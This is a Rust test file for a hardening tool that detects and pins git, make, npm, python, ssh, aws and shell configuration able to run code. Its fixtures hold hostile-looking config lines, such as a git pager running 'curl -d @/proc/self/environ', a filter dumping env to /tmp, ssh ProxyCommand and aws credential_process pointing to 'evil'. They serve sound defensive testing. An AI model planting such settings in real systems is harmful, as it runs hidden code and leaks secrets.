#![allow(clippy::unwrap_used)]
use super::managers::manager_of;
use super::npm::npmrc_detail;
use super::table::markdown;
use super::*;

fn ctx<'a>(argv: &'a [String], cwd: &'a Path, exe: &'a Path, home: &'a Path) -> Ctx<'a> {
    Ctx {
        argv,
        cwd,
        exe,
        home: Some(home),
    }
}

/// Makes `git` a repository by git's test (HEAD, objects/, refs/).
fn mkrepo(git: &Path) {
    std::fs::create_dir_all(git.join("objects")).unwrap();
    std::fs::create_dir_all(git.join("refs")).unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
}

fn sv(a: &[&str]) -> Vec<String> {
    a.iter().map(|s| (*s).to_owned()).collect()
}

#[test]
fn git_config_code_settings_are_found_and_shown() {
    let t = "[core]\n\tfsmonitor = ./x.sh\n\tbare = false\n[alias]\n\tst = status\n\tp = !sh evil\n[remote \"origin\"]\n\turl = x\n\tuploadpack = ./u\n[include]\n\tpath = ~/more.inc\n";
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("config");
    std::fs::write(&p, t).unwrap();
    let c = parse_git_config(t);
    let detail = c.detail.unwrap();
    assert!(detail.contains("core.fsmonitor=./x.sh"), "{detail}");
    assert!(detail.contains("alias.p=!sh evil"), "{detail}");
    assert!(!detail.contains("alias.st"), "{detail}");
    assert!(detail.contains("remote.origin.uploadpack=./u"), "{detail}");
    let inc: Vec<String> = c
        .items
        .iter()
        .filter_map(|i| match i {
            GitItem::Include(p) => Some(p.clone()),
            GitItem::HooksPath(_) => None,
        })
        .collect();
    assert_eq!(inc, vec!["~/more.inc".to_owned()]);
    // A byte order mark (which git skips) does not hide the first section's keys.
    let bom = "\u{feff}[filter \"y\"]\n\tclean = sh -c 'env > /tmp/f; cat'\n[core]\n\thooksPath = /tmp/h\n";
    let c = parse_git_config(bom);
    let detail = c.detail.unwrap_or_default();
    assert!(detail.contains("filter.y.clean="), "{detail}");
    assert!(
        detail.contains("core.hookspath=/tmp/h") || detail.contains("core.hooksPath=/tmp/h"),
        "{detail}"
    );
}

#[test]
fn git_config_values_are_shown_whole_as_git_reads_them() {
    // A continuation inside quotes: the card must not stop at the first line.
    let t = "[core]\n\tpager = \"less \\\n; curl -d @/proc/self/environ x\"\n\tsshCommand = ssh\\\n -oProxyCommand=evil # c\n";
    let d = parse_git_config(t).detail.unwrap();
    assert!(
        d.contains("core.pager=\"less ; curl -d @/proc/self/environ x\""),
        "{d}"
    );
    assert!(d.contains("core.sshcommand=ssh -oProxyCommand=evil"), "{d}");
    // The deprecated header form, a key on the header's line, and a subsection whose case
    // git keeps.
    let t = "[Filter.LFS]Clean = x\n[diff \"Pdf\"] textconv = \"y\\tz\"\n";
    let d = parse_git_config(t).detail.unwrap();
    assert!(d.contains("filter.lfs.clean=x"), "{d}");
    assert!(d.contains("diff.Pdf.textconv=\"y\\tz\""), "{d}");
    // git refuses a file with a bad line: said so.
    let d = parse_git_config("[core]\n\tpager = \\q\n").detail.unwrap();
    assert!(d.contains("bad config line 2"), "{d}");
}

#[test]
fn git_includes_are_followed_in_order_and_the_last_hooks_path_wins() {
    let d = tempfile::tempdir().unwrap();
    let repo = d.path().join("repo");
    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(repo.join("late")).unwrap();
    std::fs::create_dir_all(repo.join("early")).unwrap();
    std::fs::write(repo.join("late/h1"), "#!/bin/sh\n").unwrap();
    std::fs::write(repo.join("early/h0"), "#!/bin/sh\n").unwrap();
    // The include comes after hooksPath in the file, so the included value wins (git reads
    // includes where they stand); `includeIf` is followed whatever its condition.
    mkrepo(&repo.join(".git"));
    std::fs::write(
        repo.join(".git/config"),
        "[core]\n\thooksPath = early\n[include]\n\tpath = \"inc\\\n.cfg\"\n[includeIf \"onbranch:x\"]\n\tpath = cond.cfg\n",
    )
    .unwrap();
    std::fs::write(repo.join(".git/inc.cfg"), "[core]\n\thooksPath = late\n").unwrap();
    std::fs::write(repo.join(".git/cond.cfg"), "[alias]\n\tx = !evil\n").unwrap();
    let argv = sv(&["git", "status"]);
    let pins = inputs(
        "git",
        "git",
        &ctx(&argv, &repo, Path::new("/usr/bin/git"), d.path()),
    );
    let names: Vec<&str> = pins
        .iter()
        .map(|p| p.path.rsplit('/').next().unwrap())
        .collect();
    assert!(names.contains(&"inc.cfg"), "{names:?}");
    assert!(names.contains(&"cond.cfg"), "{names:?}");
    assert!(names.contains(&"h1"), "{names:?}");
    assert!(!names.contains(&"h0"), "{names:?}");
}

#[test]
fn git_reads_what_git_reads_or_refuses() {
    let d = tempfile::tempdir().unwrap();
    let home = d.path().join("home");
    let repo = d.path().join("repo");
    std::fs::create_dir_all(&home).unwrap();
    mkrepo(&repo.join(".git"));
    // A `.git` that is no repository (a decoy) is skipped, as git skips it.
    std::fs::create_dir_all(repo.join("a/b/.git")).unwrap();
    std::fs::write(repo.join("a/b/.git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(
        repo.join(".git/config"),
        "[alias]\n\tst = status\n\tf = fetch --upload-pack=./u\n\tg = -c core.pager=x log\n[include]\n\tpath = %(prefix)/share/kv-none.cfg\n",
    )
    .unwrap();
    let argv = sv(&["git", "status"]);
    let git = Path::new("/usr/bin/git");
    let pins = inputs("git", "git", &ctx(&argv, &repo.join("a/b"), git, &home));
    let cfg = std::fs::canonicalize(repo.join(".git/config")).unwrap();
    let c = pins.iter().find(|p| Path::new(&p.path) == cfg).unwrap();
    let det = c.detail.as_deref().unwrap();
    assert!(det.contains("alias.f=fetch --upload-pack=./u"), "{det}");
    assert!(det.contains("alias.g=-c core.pager=x log"), "{det}");
    assert!(!det.contains("alias.st"), "{det}");
    assert!(
        !pins.iter().any(|p| p.path.contains("/a/b/.git")),
        "{pins:?}"
    );
    // A bare repository: the directory itself.
    let bare = d.path().join("bare.git");
    mkrepo(&bare);
    std::fs::write(bare.join("config"), "[core]\n\tbare = true\n").unwrap();
    let pins = inputs("git", "git", &ctx(&argv, &bare, git, &home));
    assert!(
        pins.iter().any(|p| p.path.ends_with("/bare.git/config")),
        "{pins:?}"
    );
    // `~user/` and `%(prefix)/` are expanded as git does; an unknown user is refused.
    let cx = ctx(&argv, &repo, git, &home);
    assert_eq!(
        git_path("%(prefix)/etc/x", Path::new("/b"), &cx).unwrap(),
        PathBuf::from("/usr/etc/x")
    );
    assert_eq!(
        git_path("~root/x", Path::new("/b"), &cx).unwrap(),
        user_home("root").unwrap().join("x")
    );
    assert_eq!(
        git_path("~/x", Path::new("/b"), &cx).unwrap(),
        home.join("x")
    );
    std::fs::write(
        repo.join(".git/config"),
        "[include]\n\tpath = ~no-such-user-kv/x.cfg\n",
    )
    .unwrap();
    let pins = inputs("git", "git", &ctx(&argv, &repo, git, &home));
    assert!(
        pins.iter().any(|p| p.role == crate::pin::UNPINNABLE),
        "{pins:?}"
    );
    // A config over 1 MiB cannot be shown: refused, not pinned by hash alone.
    let big = format!("[core]\n{}", "# pad\n".repeat(200_000));
    std::fs::write(repo.join(".git/config"), big).unwrap();
    let pins = inputs("git", "git", &ctx(&argv, &repo, git, &home));
    assert!(
        pins.iter()
            .any(|p| p.role == crate::pin::UNPINNABLE && p.path.ends_with("config")),
        "{pins:?}"
    );
    // Hooks beyond the per-file cap: the directory is pinned whole.
    std::fs::write(repo.join(".git/config"), "").unwrap();
    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
    for i in 0..70 {
        std::fs::write(repo.join(format!(".git/hooks/h{i:02}")), "x").unwrap();
    }
    let pins = inputs("git", "git", &ctx(&argv, &repo, git, &home));
    let dir = pins.iter().find(|p| p.role == "git-hooks-dir").unwrap();
    assert!(crate::pin::path_dirs::still_holds(dir));
    std::fs::write(repo.join(".git/hooks/zz-late"), "x").unwrap();
    assert!(!crate::pin::path_dirs::still_holds(dir));
}

#[test]
fn git_pins_submodule_configs_and_hooks() {
    let d = tempfile::tempdir().unwrap();
    let repo = d.path().join("repo");
    let m = repo.join(".git/modules/lib/sub");
    std::fs::create_dir_all(m.join("hooks")).unwrap();
    std::fs::create_dir_all(m.join("modules/inner/hooks")).unwrap();
    mkrepo(&repo.join(".git"));
    std::fs::write(repo.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(m.join("config"), "[filter \"x\"]\n\tclean = sh evil\n").unwrap();
    std::fs::write(m.join("hooks/post-checkout"), "#!/bin/sh\n").unwrap();
    std::fs::write(m.join("modules/inner/config"), "[core]\n\tbare = false\n").unwrap();
    let home = d.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let argv = sv(&["git", "status"]);
    let pins = inputs(
        "git",
        "git",
        &ctx(&argv, &repo, Path::new("/usr/bin/git"), &home),
    );
    let paths: Vec<String> = pins.iter().map(|p| p.path.clone()).collect();
    let canon = |p: PathBuf| std::fs::canonicalize(p).unwrap().display().to_string();
    assert!(paths.contains(&canon(m.join("config"))), "{paths:?}");
    assert!(
        paths.contains(&canon(m.join("hooks/post-checkout"))),
        "{paths:?}"
    );
    assert!(
        paths.contains(&canon(m.join("modules/inner/config"))),
        "{paths:?}"
    );
    let sub = pins
        .iter()
        .find(|p| p.path == canon(m.join("config")))
        .unwrap();
    assert!(
        sub.detail
            .as_deref()
            .unwrap_or("")
            .contains("filter.x.clean"),
        "{sub:?}"
    );
}

#[test]
fn git_pins_repo_and_global_config_and_hooks() {
    let d = tempfile::tempdir().unwrap();
    let home = d.path().join("home");
    let repo = d.path().join("repo");
    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(repo.join("sub")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    mkrepo(&repo.join(".git"));
    std::fs::write(repo.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(repo.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    std::fs::write(repo.join(".git/hooks/pre-push.sample"), "#!/bin/sh\n").unwrap();
    std::fs::write(home.join(".gitconfig"), "[user]\n\tname = x\n").unwrap();
    let argv = sv(&["git", "status"]);
    let elsewhere = sv(&["git", "--git-dir=../repo/.git", "status"]);
    let other = d.path().join("other");
    std::fs::create_dir_all(&other).unwrap();
    let by_flag = inputs(
        "git",
        "git",
        &ctx(&elsewhere, &other, Path::new("/usr/bin/git"), &home),
    );
    assert!(
        by_flag
            .iter()
            .any(|p| p.path.ends_with("/repo/.git/config")),
        "{by_flag:?}"
    );
    let sub = repo.join("sub");
    let exe = Path::new("/usr/bin/git");
    let pins = inputs("git", "git", &ctx(&argv, &sub, exe, &home));
    let roles: Vec<(&str, &str)> = pins
        .iter()
        .map(|p| (p.role.as_str(), p.path.rsplit('/').next().unwrap()))
        .collect();
    assert!(roles.contains(&("git-config", "config")), "{roles:?}");
    assert!(roles.contains(&("git-config", ".gitconfig")), "{roles:?}");
    assert!(roles.contains(&("git-hook", "pre-commit")), "{roles:?}");
    assert!(!roles.iter().any(|r| r.1.ends_with(".sample")), "{roles:?}");
}

#[test]
fn make_follows_literal_includes_and_flags() {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(d.path().join("sub")).unwrap();
    std::fs::write(
        d.path().join("sub/Makefile"),
        "include rules.mk\n-include $(X).mk\nall:\n\ttrue\n",
    )
    .unwrap();
    std::fs::write(d.path().join("sub/rules.mk"), "sinclude deep.mk\n").unwrap();
    std::fs::write(d.path().join("sub/deep.mk"), "x:\n").unwrap();
    let argv = sv(&["make", "-C", "sub", "all"]);
    let pins = inputs(
        "make",
        "make",
        &ctx(&argv, d.path(), Path::new("/usr/bin/make"), d.path()),
    );
    let (refused, pins): (Vec<_>, Vec<_>) = pins
        .into_iter()
        .partition(|p| p.role == crate::pin::UNPINNABLE);
    let names: Vec<&str> = pins
        .iter()
        .map(|p| p.path.rsplit('/').next().unwrap())
        .collect();
    assert_eq!(names, ["Makefile", "rules.mk", "deep.mk"]);
    assert_eq!(pins[0].role, "makefile");
    assert_eq!(pins[1].role, "makefile-include");
    // An include only make can expand is refused (fail closed), not skipped.
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert!(
        refused[0]
            .detail
            .as_deref()
            .unwrap_or("")
            .contains("$(X).mk"),
        "{refused:?}"
    );
}

#[test]
fn make_pins_what_a_makefile_puts_on_path_and_refuses_what_it_cannot_tell() {
    let d = tempfile::tempdir().unwrap();
    let dir = d.path();
    let cases: &[(&str, Result<Vec<&str>, ()>)] = &[
        (
            "export PATH := $(CURDIR)/tools:$(PATH)\n",
            Ok(vec!["tools"]),
        ),
        ("override PATH = bin:${PATH}\n", Ok(vec!["bin"])),
        ("test: PATH := $(PWD)/x/y:$(PATH)\n", Ok(vec!["x/y"])),
        ("$(eval PATH := v:$(PATH))\n", Ok(vec!["v"])),
        (
            "t:\n\tPATH=node/bin:$$PATH npm test\n",
            Ok(vec!["node/bin"]),
        ),
        ("t:\n\texport PATH=\"$$PWD/b:$$PATH\"; x\n", Ok(vec!["b"])),
        (
            "MANPATH = m\nX_PATH = y\nt:\n\techo $$PATH $(PATH)\n",
            Ok(vec![]),
        ),
        ("export PATH := $(shell pwd)/sh:$(PATH)\n", Ok(vec!["sh"])),
        ("export PATH := $(shell cat f):$(PATH)\n", Err(())),
        ("PATH != echo x\n", Err(())),
        ("define PATH\nx\nendef\n", Err(())),
        ("PATH += $(TOOLS)\n", Err(())),
    ];
    for (text, want) in cases {
        let got = make_path_dirs(text, dir);
        match (want, got) {
            (Ok(w), Ok(g)) => {
                let w: Vec<PathBuf> = w.iter().map(|x| dir.join(x)).collect();
                assert_eq!(g, w, "{text:?}");
            }
            (Err(()), Err(_)) => {}
            (w, g) => panic!("{text:?}: want {w:?}, got {g:?}"),
        }
    }
    assert_eq!(
        make_expand_include("$(DEPS)", "DEPS = a.d b.d\n").unwrap(),
        ["a.d", "b.d"]
    );
    assert_eq!(
        make_expand_include("$(wildcard build/*.d)", "").unwrap(),
        ["build/*.d"]
    );
    assert!(make_expand_include("$(DEPS)", "DEPS = $(SRCS:.c=.d)\n").is_err());
    assert!(make_expand_include("$(DEPS)", "DEPS = a.d\nDEPS += b.d\n").is_err());
    assert!(make_expand_include("$(DEPS)", "").is_err());
}

#[test]
fn npm_pins_what_npm_itself_adds_to_a_run() {
    let d = tempfile::tempdir().unwrap();
    let app = d.path().join("ws/app");
    std::fs::create_dir_all(&app).unwrap();
    std::fs::write(app.join("package.json"), "\u{feff}{\"scripts\":{}}").unwrap();
    std::fs::write(app.join("binding.gyp"), "{}").unwrap();
    let argv = sv(&["pnpm", "install"]);
    let npm = Path::new("/usr/bin/pnpm");
    let pins = inputs("pnpm", "pnpm", &ctx(&argv, &app, npm, d.path()));
    let gyp = pins
        .iter()
        .find(|p| p.role == "npm-default-install")
        .unwrap();
    assert!(
        gyp.detail.as_deref().unwrap().contains("node-gyp"),
        "{gyp:?}"
    );
    // The parent's node_modules/.bin, absent now, is pinned as absent.
    let parent_bin = d.path().join("ws/node_modules/.bin");
    let p = pins
        .iter()
        .find(|p| Path::new(&p.path) == parent_bin)
        .unwrap();
    assert!(crate::pin::path_dirs::still_holds(p));
    std::fs::create_dir_all(&parent_bin).unwrap();
    assert!(!crate::pin::path_dirs::still_holds(p));
}

#[test]
fn home_configs_that_run_code_are_pinned_and_quoted() {
    let d = tempfile::tempdir().unwrap();
    let home = d.path();
    std::fs::create_dir_all(home.join(".ssh/conf.d")).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(
        home.join(".ssh/config"),
        "Host *\n  User me\nInclude conf.d/*.conf\n",
    )
    .unwrap();
    std::fs::write(
        home.join(".ssh/conf.d/x.conf"),
        "  ProxyCommand sh -c evil\n",
    )
    .unwrap();
    std::fs::write(
        home.join(".aws/config"),
        "[profile p]\ncredential_process = /tmp/evil\nregion = x\n",
    )
    .unwrap();
    std::fs::write(home.join(".psqlrc"), "\\! sh evil\n").unwrap();
    let detail = |tool: &str| -> Vec<String> {
        let argv = sv(&[tool]);
        let exe = PathBuf::from(format!("/usr/bin/{tool}"));
        inputs(tool, tool, &ctx(&argv, home, &exe, home))
            .into_iter()
            .filter(|p| p.path.starts_with(&*home.display().to_string()))
            .filter_map(|p| p.detail)
            .collect()
    };
    let ssh = detail("ssh").join(" | ");
    assert!(ssh.contains("ProxyCommand sh -c evil"), "{ssh}");
    assert!(!ssh.contains("User me"), "{ssh}");
    assert!(
        detail("aws")
            .join(" ")
            .contains("credential_process = /tmp/evil")
    );
    assert!(detail("psql").join(" ").contains("sh evil"));
    for v in [
        "KUBECONFIG",
        "TAR_OPTIONS",
        "RM",
        "CARGO_REGISTRIES_X_CREDENTIAL_PROVIDER",
        "CURL_HOME",
    ] {
        assert!(is_loader_var(v), "{v}");
    }
}

#[test]
fn make_includes_by_wildcard_and_include_dir_are_pinned() {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(d.path().join("mk")).unwrap();
    std::fs::create_dir_all(d.path().join("inc")).unwrap();
    std::fs::write(
        d.path().join("Makefile"),
        "include mk/[ab]*.mk\nsinclude common.mk\nall:\n",
    )
    .unwrap();
    std::fs::write(d.path().join("mk/a1.mk"), "x:\n").unwrap();
    std::fs::write(d.path().join("mk/zz.mk"), "x:\n").unwrap();
    std::fs::write(d.path().join("inc/common.mk"), "x:\n").unwrap();
    let argv = sv(&["make", "--include-dir=inc", "all"]);
    let exe = Path::new("/usr/bin/make");
    let pins = inputs("make", "make", &ctx(&argv, d.path(), exe, d.path()));
    let names: Vec<&str> = pins
        .iter()
        .map(|p| p.path.rsplit('/').next().unwrap())
        .collect();
    assert!(
        names.contains(&"a1.mk") && names.contains(&"common.mk"),
        "{names:?}"
    );
    assert!(!names.contains(&"zz.mk"), "{names:?}");
    let dir = pins.iter().find(|p| p.role == "make-include-dir").unwrap();
    std::fs::write(d.path().join("mk/b2.mk"), "x:\n").unwrap();
    assert!(!crate::pin::path_dirs::still_holds(dir));
}

#[test]
fn python_pins_the_directory_it_imports_from_first() {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(d.path().join("tools")).unwrap();
    std::fs::write(d.path().join("tools/run.py"), "import json\n").unwrap();
    std::fs::write(d.path().join("README.md"), "x").unwrap();
    let exe = Path::new("/usr/bin/python3");
    let argv = sv(&["python3", "-W", "error", "tools/run.py"]);
    let pins = inputs("python", "python3", &ctx(&argv, d.path(), exe, d.path()));
    let p = pins.iter().find(|p| p.role == "python-import-dir").unwrap();
    assert!(p.path.ends_with("/tools"), "{p:?}");
    assert!(p.detail.as_deref().unwrap().contains("run.py"), "{p:?}");
    assert!(crate::pin::path_dirs::still_holds(p));
    // A compiled module planted in __pycache__ is a change; so is one in cwd for -m.
    std::fs::create_dir_all(d.path().join("tools/__pycache__")).unwrap();
    assert!(!crate::pin::path_dirs::still_holds(p));
    let m = sv(&["python3", "-m", "json.tool"]);
    let pins = inputs("python", "python3", &ctx(&m, d.path(), exe, d.path()));
    let p = pins.iter().find(|p| p.role == "python-import-dir").unwrap();
    std::fs::write(d.path().join("NOTES.txt"), "x").unwrap();
    assert!(
        crate::pin::path_dirs::still_holds(p),
        "a data file is no module"
    );
    std::fs::write(d.path().join("json.py"), "x").unwrap();
    assert!(!crate::pin::path_dirs::still_holds(p));
    // -I: no script directory on sys.path.
    let i = sv(&["python3", "-I", "tools/run.py"]);
    let pins = inputs("python", "python3", &ctx(&i, d.path(), exe, d.path()));
    assert!(!pins.iter().any(|p| p.role == "python-import-dir"));
}

#[test]
fn npmrc_code_settings_are_shown() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join(".npmrc");
    std::fs::write(
        &p,
        "script-shell=./evil\n//r.example/:_authToken=x\nfund=false\n",
    )
    .unwrap();
    let det = npmrc_detail(&std::fs::read_to_string(&p).unwrap()).unwrap();
    assert!(det.contains("script-shell=./evil"), "{det}");
    assert!(!det.contains("fund"), "{det}");
}

#[test]
fn shells_pin_startup_files_only_when_they_are_read() {
    let d = tempfile::tempdir().unwrap();
    for f in [".profile", ".bashrc", ".zshenv", ".bash_profile"] {
        std::fs::write(d.path().join(f), "echo x\n").unwrap();
    }
    let exe = Path::new("/bin/bash");
    let plain = sv(&["bash", "ci.sh"]);
    assert!(inputs("bash", "bash", &ctx(&plain, d.path(), exe, d.path())).is_empty());
    let login = sv(&["bash", "-l", "ci.sh"]);
    let n: Vec<String> = inputs("bash", "bash", &ctx(&login, d.path(), exe, d.path()))
        .into_iter()
        .map(|p| p.path)
        .collect();
    assert!(n.iter().any(|p| p.ends_with("/.bash_profile")), "{n:?}");
    assert!(n.iter().any(|p| p.ends_with("/.profile")), "{n:?}");
    assert!(!n.iter().any(|p| p.ends_with("/.bashrc")), "{n:?}");
    let z = sv(&["zsh", "ci.zsh"]);
    let n = inputs(
        "zsh",
        "zsh",
        &ctx(&z, d.path(), Path::new("/bin/zsh"), d.path()),
    );
    assert!(n.iter().any(|p| p.path.ends_with("/.zshenv")));
}

#[test]
fn the_documented_table_is_the_code_table() {
    let doc = include_str!("../../../../docs/hardening.md");
    let table = markdown();
    assert!(
        doc.contains(&table),
        "docs/hardening.md must hold the loaders table as rendered:\n{table}"
    );
}

#[test]
fn includes_into_proc_are_neither_read_nor_pinned() {
    let d = tempfile::tempdir().unwrap();
    let repo = d.path().join("repo");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    mkrepo(&repo.join(".git"));
    std::fs::write(
        repo.join(".git/config"),
        "[include]\n\tpath = /proc/self/environ\n[core]\n\thooksPath = /proc/self\n",
    )
    .unwrap();
    let argv = sv(&["git", "status"]);
    let pins = inputs(
        "git",
        "git",
        &ctx(&argv, &repo, Path::new("/usr/bin/git"), d.path()),
    );
    let git: Vec<&InputPin> = pins.iter().filter(|p| p.role.starts_with("git")).collect();
    assert_eq!(git.len(), 1, "{pins:?}");
    assert!(pins.iter().all(|p| !p.path.starts_with("/proc")));
    assert!(read_for_requester(Path::new("/proc/self/environ")).is_none());
}

#[test]
fn pyenv_shims_pin_the_selected_version_only() {
    let d = tempfile::tempdir().unwrap();
    let root = d.path().join(".pyenv");
    for v in ["3.11.7", "3.12.1"] {
        let sp = root.join(format!("versions/{v}/lib/python3.x/site-packages"));
        std::fs::create_dir_all(&sp).unwrap();
        std::fs::write(sp.join(format!("v{v}.pth")), "import os\n").unwrap();
    }
    std::fs::create_dir_all(root.join("shims")).unwrap();
    std::fs::write(root.join("shims/python3"), "#!/bin/sh\n").unwrap();
    let app = d.path().join("app");
    std::fs::create_dir_all(&app).unwrap();
    std::fs::write(app.join(".python-version"), "3.12.1\n").unwrap();
    let argv = sv(&["python3", "x.py"]);
    let exe = root.join("shims/python3");
    let pins = inputs("python", "python3", &ctx(&argv, &app, &exe, d.path()));
    let names: Vec<&str> = pins
        .iter()
        .map(|p| p.path.rsplit('/').next().unwrap())
        .collect();
    assert!(names.contains(&"v3.12.1.pth"), "{names:?}");
    assert!(!names.contains(&"v3.11.7.pth"), "{names:?}");
    assert!(names.contains(&".python-version"), "{names:?}");
}

#[test]
fn version_managers_are_found_from_path_and_their_files_pinned() {
    let d = tempfile::tempdir().unwrap();
    let home = d.path().join("home");
    let app = home.join("proj/app");
    std::fs::create_dir_all(&app).unwrap();
    let mk = |rel: &str, body: &str| {
        let p = home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, body).unwrap();
    };
    // One fake install per manager.
    for (root, marker) in [
        (".pyenv", "libexec/pyenv"),
        (".rbenv", "libexec/rbenv"),
        (".nodenv", "libexec/nodenv"),
        (".asdf", "installs/python/3.12/bin/python"),
        (".local/share/mise", "installs/node/22/bin/node"),
        (".nvm", "nvm.sh"),
    ] {
        mk(&format!("{root}/{marker}"), "#!/bin/sh\n");
        mk(&format!("{root}/shims/tool"), "#!/bin/sh\n");
    }
    std::fs::create_dir_all(home.join(".asdf/plugins/python/bin")).unwrap();
    mk(".asdf/plugins/python/bin/exec-env", "echo\n");
    mk(".pyenv/pyenv.d/exec/hook.bash", "echo\n");
    mk(
        ".pyenv/plugins/pyenv-virtualenv/etc/pyenv.d/which/v.bash",
        "echo\n",
    );
    mk(".pyenv/version", "3.12.1\n");
    mk(".nvm/versions/node/v22.0.0/bin/node", "x");
    mk(".cargo/bin/rustup", "x");
    mk(".rustup/settings.toml", "default_toolchain = \"stable\"\n");
    mk(".rustup/toolchains/stable/bin/cargo", "x");
    for f in [
        "proj/.python-version",
        "proj/app/.ruby-version",
        "proj/.node-version",
        "proj/.tool-versions",
        "proj/app/mise.toml",
        "proj/.mise/config.toml",
        "proj/app/.nvmrc",
        "proj/rust-toolchain.toml",
        ".config/mise/config.toml",
        ".asdfrc",
    ] {
        mk(f, "x\n");
    }
    let path: Vec<String> = [
        ".pyenv/shims",
        ".pyenv/plugins/pyenv-virtualenv/shims",
        ".rbenv/shims",
        ".nodenv/shims",
        ".asdf/shims",
        ".local/share/mise/shims",
        ".nvm/versions/node/v22.0.0/bin",
        ".cargo/bin",
    ]
    .iter()
    .map(|r| home.join(r).display().to_string())
    .chain(["/usr/bin".to_owned()])
    .collect();
    let argv = sv(&["make", "test"]);
    let cx = ctx(&argv, &app, Path::new("/usr/bin/make"), &home);
    let pins = manager_inputs(&path.join(":"), &cx);
    let has = |rel: &str, role: &str| {
        let want = std::fs::canonicalize(home.join(rel))
            .unwrap_or_else(|_| home.join(rel))
            .display()
            .to_string();
        pins.iter().any(|p| {
            (p.path == want || p.path == home.join(rel).display().to_string()) && p.role == role
        })
    };
    for (rel, role) in [
        ("proj/.python-version", "version-selector"),
        (".pyenv/version", "version-selector"),
        (".pyenv/pyenv.d", "version-manager-hooks"),
        (
            ".pyenv/plugins/pyenv-virtualenv/etc/pyenv.d",
            "version-manager-hooks",
        ),
        (".pyenv/libexec", "toolchain-dir"),
        ("proj/app/.ruby-version", "version-selector"),
        (".rbenv/rbenv.d", "version-manager-hooks"),
        ("proj/.node-version", "version-selector"),
        ("proj/.tool-versions", "version-selector"),
        (".asdfrc", "version-selector"),
        (".asdf/plugins", "version-manager-hooks"),
        (".asdf/installs", "toolchain-dir"),
        ("proj/app/mise.toml", "version-selector"),
        ("proj/.mise/config.toml", "version-selector"),
        (".config/mise/config.toml", "version-selector"),
        (".local/share/mise/installs", "toolchain-dir"),
        ("proj/app/.nvmrc", "version-selector"),
        ("proj/rust-toolchain.toml", "version-selector"),
        (".rustup/settings.toml", "version-selector"),
        (".rustup/toolchains", "toolchain-dir"),
    ] {
        assert!(has(rel, role), "{rel} ({role}) not pinned: {pins:#?}");
    }
    // A hook planted later changes the hooks' fingerprint; so does a selector.
    let hooks = pins
        .iter()
        .find(|p| p.role == "version-manager-hooks" && p.path.ends_with("/.pyenv/pyenv.d"))
        .unwrap();
    assert!(crate::pin::path_dirs::still_holds(hooks));
    mk(".pyenv/pyenv.d/exec/evil.bash", "curl x\n");
    assert!(!crate::pin::path_dirs::still_holds(hooks));
    // An asdf layout is not taken for mise's, nor the other way round.
    let m = manager_of(&home.join(".local/share/mise/shims"), Some(&home)).unwrap();
    assert_eq!(m.0.name, "mise");
    let a = manager_of(&home.join(".asdf/shims"), Some(&home)).unwrap();
    assert_eq!(a.0.name, "asdf");
    assert!(manager_of(Path::new("/usr/bin"), Some(&home)).is_none());
}

#[test]
fn loader_vars_and_neutralisers() {
    for v in [
        "MAKEFILES",
        "YARN_YARN_PATH",
        "PIP_CONFIG_FILE",
        "RUSTUP_TOOLCHAIN",
        "PYENV_VERSION",
        "RBENV_VERSION",
        "NODENV_HOOK_PATH",
        "ASDF_PYTHON_VERSION",
        "MISE_NODE_VERSION",
        "MISE_CONFIG_FILE",
    ] {
        assert!(is_loader_var(v), "{v}");
    }
    assert!(!is_loader_var("MISE_GITHUB_TOKEN"));
    assert!(is_loader_var("PYTHONNOUSERSITE"));
    assert!(!is_loader_var("NODE_ENV"));
    assert!(NEUTRALISE.contains(&("PYTHONNOUSERSITE", "1")));
}
